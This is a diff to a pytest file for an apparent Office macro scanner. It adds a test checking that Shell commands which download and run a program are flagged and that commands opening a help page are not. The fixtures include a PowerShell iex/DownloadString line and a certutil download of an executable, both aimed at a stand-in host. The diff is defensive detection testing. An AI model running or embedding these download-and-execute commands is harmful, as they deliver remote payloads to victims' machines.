@@ -230,7 +230,21 @@ def test_a_command_with_an_address_outside_that_runs_by_itself_is_malicious(comm
     assert status(docm(opening(f'Shell "{command}"'))) is Status.MALICIOUS
     on_demand = found(asked(f'Shell "{command}"'))
     assert {"macro-starts-program", "macro-uses-network"} <= on_demand
-    assert "macro-fetches-program" not in on_demand  # the engine of scripts says what the command does
+
+
+@pytest.mark.parametrize(
+    ("command", "wanted"),
+    [
+        ("powershell -c iex (New-Object Net.WebClient).DownloadString('http://a.example/x')", True),
+        ("certutil -urlcache -f http://a.example/x C:\\Users\\Public\\x.exe", True),
+        ("cmd /c start https://a.example/help", False),
+        ("rundll32 url.dll,FileProtocolHandler https://a.example/help", False),
+    ],
+)
+def test_what_a_button_has_brought_is_no_page_that_it_shows(command: str, wanted: bool) -> None:
+    data = docm(asked(f'Shell "{command}"'))
+    assert ("macro-fetches-program" in ids(look(engine.examine, data, "a.docm"))) is wanted
+    assert (status(data).rank > 0) is wanted
 
 
 def test_what_is_called_by_an_automatic_procedure_is_automatic() -> None:
